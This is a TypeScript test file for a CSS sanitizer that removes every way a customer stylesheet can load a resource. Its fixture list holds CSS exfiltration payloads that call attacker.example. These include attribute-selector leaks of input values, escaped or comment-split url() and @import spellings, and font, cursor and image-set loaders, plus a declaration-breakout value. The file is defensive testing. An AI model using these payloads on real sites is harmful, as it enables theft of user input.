/**
 * The customer css guard (src/protocol/css.ts): every way a stylesheet can load a resource is dropped.
 * Database: none (a pure function).
 */
import { describe, expect, it } from 'vitest'
import { cssLoadsResource, safeCss, safeCssValue } from '../../src/protocol/css.js'

/** Every way a stylesheet can ask for a resource, in the spellings a tokenizer accepts. */
const LOADING = [
  'input[value^="D"]{background-image:url(https://attacker.example/D)}',
  "input[value$=a]{background:URL('//attacker.example/a')}",
  'input{background:u\\72l(https://attacker.example/)}',
  'input{background:\\75 rl(https://attacker.example/)}',
  'input{background:\\000075rl(https://attacker.example/)}',
  'input{background:u/**/rl(https://attacker.example/)}',
  'input{background:u\\\\72l(https://attacker.example/)}'.replace('\\\\', '\\'),
  'input{background-image:image-set("https://attacker.example/x" 1x)}',
  'input{background-image:-webkit-image-set(url(https://attacker.example/x) 1x)}',
  'input{border-image:cross-fade(url(https://attacker.example/x), red)}',
  'input{cursor:url(https://attacker.example/c),auto}',
  'input{list-style:image("https://attacker.example/i")}',
  '@import url(https://attacker.example/s.css);',
  '@import "https://attacker.example/s.css";',
  '@\\69mport "https://attacker.example/s.css";',
  '@im/**/port "https://attacker.example/s.css";',
  '@namespace svg url(http://www.w3.org/2000/svg);',
  '@font-face{font-family:x;src:url(https://attacker.example/f.woff2)}',
  '@font-face{font-family:x;src:src("https://attacker.example/f.woff2")}',
  'input{--leak:url(https://attacker.example/v)}',
  'input{background:url(data:image/png;base64,AAAA)}',
]

describe('the customer css guard', () => {
  it('drops every rule piece that loads a resource, in every spelling', () => {
    for (const css of LOADING) {
      const out = safeCss(css)
      expect(cssLoadsResource(out), `${css} -> ${out}`).toBe(false)
      expect(out, css).not.toMatch(/attacker|url|@import|image-set|src\(/i)
    }
  })

  it('keeps what only styles, selectors and blocks included', () => {
    const css = '.btn{color:#ff0066;background:linear-gradient(red,blue)} input[value^="D"]{outline:1px solid red}\n@media (max-width:600px){body{margin:0}}'
    expect(safeCss(css)).toBe(css)
    expect(safeCss('a{color:red;background:url(x);border:0}')).toBe('a{color:red;;border:0}')
    expect(safeCss('input[value^="D"]{background:url(//a.example/D)}')).toBe('input[value^="D"]{}')
  })

  it('refuses cssVars values that load or break out of their declaration', () => {
    expect(safeCssValue('#0f172a')).toBe('#0f172a')
    expect(safeCssValue('0.5rem')).toBe('0.5rem')
    expect(safeCssValue('url(https://attacker.example/)')).toBeNull()
    expect(safeCssValue('red;background:red')).toBeNull()
    expect(safeCssValue('image-set("x" 1x)')).toBeNull()
  })
})
